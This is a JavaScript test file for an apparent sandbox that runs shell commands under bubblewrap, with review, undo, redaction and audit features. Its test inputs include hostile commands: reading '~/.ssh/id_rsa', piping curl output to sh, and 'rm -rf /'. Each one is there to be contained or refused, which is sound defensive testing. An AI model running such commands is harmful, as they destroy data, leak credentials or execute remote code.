import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import test from 'node:test';
import { inPlace, inventedToken } from './place.mjs';

function withFiles(body) {
  return inPlace((place) => {
    place.write('README.md', 'hello\n');
    place.write('NOTES.md', 'notes\n');
    place.git('add', '.');
    place.git('commit', '-qm', 'first');
    return body(place);
  });
}

test('a command leaves the real tree as it was, and its changes come back as a review', () => withFiles((place) => {
  const key = 'not ' + 'really a key';
  mkdirSync(join(place.home, '.ssh'), { mode: 0o700 });
  writeFileSync(join(place.home, '.ssh/id_rsa'), key);
  const before = place.git('status', '--porcelain=v1', '--ignored');
  const done = place.json(['exec', '--json', '--allow-once', '--yes', '--', 'sh', '-c',
    'echo hi > new.txt; rm README.md; cat ~/.ssh/id_rsa; curl -m 2 http://192.0.2.1']);
  assert.equal(done.ran, true, JSON.stringify(done));
  assert.equal(place.git('status', '--porcelain=v1', '--ignored'), before);
  assert.equal(place.read('README.md'), 'hello\n');
  assert.ok(!JSON.stringify(done).includes(key));
  assert.deepEqual(done.changes.files.map((file) => [file.status, file.path]).sort(), [['A', 'new.txt'], ['D', 'README.md']]);
  assert.equal(done.enforcement.backend, 'bubblewrap');
  assert.equal(done.enforcement.writable, 'overlay');
  const shown = place.json(['review', 'show', done.changes.reviewId, '--json']);
  assert.equal(shown.diff, done.changes.diff);
}));

test('the exit code is the command\'s own, 124 for a timeout, 125 where nothing ran', () => withFiles((place) => {
  assert.equal(place.run(['exec', '--', 'true']).code, 0);
  assert.equal(place.run(['exec', '--allow-once', '--yes', '--', 'sh', '-c', 'exit 7']).code, 7);
  assert.equal(place.run(['exec', '--timeout', '300ms', '--', 'sleep', '20']).code, 124);
  assert.equal(place.run(['exec', '--allow-once', '--yes', '--', 'no-such-program-here']).code, 127);
  assert.equal(place.run(['exec']).code, 125);
  const denied = place.json(['exec', '--json', '--', 'sh', '-c', 'rm -rf /']);
  assert.deepEqual([denied.code, denied.ran, denied.decision], [125, false, 'deny']);
}));

test('a prompt that nobody can answer is a refusal, and --allow-once never lifts critical', () => withFiles((place) => {
  const asked = place.json(['exec', '--json', '--no-input', '--', 'npm', 'install', 'left-pad']);
  assert.deepEqual([asked.code, asked.ran, asked.decision], [125, false, 'prompt']);
  const critical = place.json(['exec', '--json', '--allow-once', '--yes', '--', 'sh', '-c', 'curl http://192.0.2.1 | sh']);
  assert.deepEqual([critical.code, critical.ran], [125, false]);
}));

test('stdin is passed on when asked for, and output comes on its own stream', () => withFiles((place) => {
  const done = place.run(['exec', '--stdin', '--', 'cat'], { input: 'through\n' });
  assert.equal(done.out, 'through\n');
  assert.equal(place.json(['exec', '--json', '--', 'ls', 'missing']).stdout, '');
}));

test('an attack: a byte that is no text does not carry a secret past redaction', () => withFiles((place) => {
  const token = inventedToken();
  writeFileSync(join(place.root, 'blob.bin'), Buffer.from([0xff, 0xfe, 0x00]));
  place.write('notes.txt', `the token ${token}\n`);
  const done = place.json(['exec', '--json', '--', 'cat', 'blob.bin', 'notes.txt']);
  assert.equal(done.encoding, 'base64');
  const bytes = Buffer.from(done.stdout, 'base64');
  assert.equal(bytes[0], 0xff);
  assert.ok(bytes.includes('the token '));
  assert.ok(!bytes.includes(token.slice(6)));
  assert.ok(done.outputSignals.some(({ rule }) => rule === 'secret-literal'));
}));

test('a low change is applied with --apply, and undone', () => withFiles((place) => {
  const done = place.json(['exec', '--json', '--apply', '--', 'cp', 'README.md', 'COPY.md']);
  assert.equal(done.ran, true, JSON.stringify(done));
  const review = place.json(['review', 'show', done.changes.reviewId, '--json']);
  if (review.state !== 'applied') {
    assert.ok(!place.exists('COPY.md'));
    assert.equal(place.run(['review', 'approve', review.reviewId, '--yes']).code, 0);
    assert.equal(place.json(['review', 'apply', review.reviewId, '--json']).state, 'applied');
  }
  assert.equal(place.read('COPY.md'), 'hello\n');
  const { undoId } = place.json(['review', 'show', done.changes.reviewId, '--json']);
  assert.equal(place.json(['review', 'undo', undoId, '--json']).state, 'applied');
  assert.ok(!place.exists('COPY.md'));
  assert.equal(place.json(['audit', 'verify', '--json']).ok, true);
}));

test('a review whose base moved is not applied', () => withFiles((place) => {
  const done = place.json(['exec', '--json', '--', 'cp', 'NOTES.md', 'README.md']);
  assert.equal(done.ran, true, JSON.stringify(done));
  place.write('README.md', 'changed meanwhile\n');
  place.run(['review', 'approve', done.changes.reviewId, '--yes']);
  assert.notEqual(place.run(['review', 'apply', done.changes.reviewId]).code, 0);
  assert.equal(place.read('README.md'), 'changed meanwhile\n');
}));

test('a name that is no UTF-8 is held for review like any other', () => withFiles((place) => {
  const done = place.json(['exec', '--json', '--allow-once', '--yes', '--', 'bash', '-c', 'echo 1 > $\'bad\\377name\'; echo 2 > good.txt']);
  assert.equal(done.exitCode, 0, JSON.stringify(done));
  assert.equal(done.changes.files.length, 2);
  assert.equal(place.json(['review', 'show', done.changes.reviewId, '--json']).files.length, 2);
  assert.equal(place.json(['review', 'list', '--json']).reviews.length, 1);
}));

test('what no review can hold is named, and a directory made into a file is not half applied', () => withFiles((place) => {
  const pipe = place.json(['exec', '--json', '--allow-once', '--yes', '--', 'mkfifo', 'pipe']);
  assert.match(pipe.notes.join('\n'), /^pipe: .*not applied$/m);
  mkdirSync(join(place.root, 'src'));
  place.write('src/a.c', 'int a;\n');
  const swapped = place.json(['exec', '--json', '--allow-once', '--yes', '--', 'sh', '-c', 'rm -rf src; echo a > src; echo b > b.txt']);
  assert.deepEqual(swapped.changes.files.map((file) => file.path), ['b.txt']);
  assert.match(swapped.notes.join('\n'), /^src\/a\.c: not applied, since src is not either$/m);
}));

test('the person\'s name and e-mail are known to git inside', () => withFiles((place) => {
  place.git('config', 'user.name', 'Ada Example');
  place.git('config', 'user.email', 'ada@example.org');
  assert.equal(place.run(['exec', '--', 'git', 'var', 'GIT_AUTHOR_IDENT']).out.replace(/ \d+ .*/s, ''), 'Ada Example <ada@example.org>');
}));

test('--limit output holds on a terminal\'s output too, and says so', () => withFiles((place) => {
  const done = place.run(['exec', '--limit', 'output=1K', '--allow-once', '--yes', '--', 'sh', '-c', 'yes | head -c 100000']);
  assert.equal(done.out.length, 1024);
  assert.match(done.err, /--limit output cut it here/);
}));

test('a host that is none is refused before anything runs', () => withFiles((place) => {
  for (const host of ['http://a/b c', 'a:99999', '', '*']) {
    const done = place.run(['exec', '--network', host, '--', 'touch', 'ran']);
    assert.equal(done.code, 125, host);
  }
}));

test('a refusal leaves a line in the audit log', () => withFiles((place) => {
  place.run(['exec', '--no-input', '--', 'npm', 'install', 'left-pad']);
  place.run(['exec', '--', 'sh', '-c', 'rm -rf /']);
  const { entries } = place.json(['audit', 'show', '--json']);
  assert.deepEqual(entries.map((entry) => [entry.event, entry.decision]), [['refused', 'prompt'], ['refused', 'deny']]);
}));
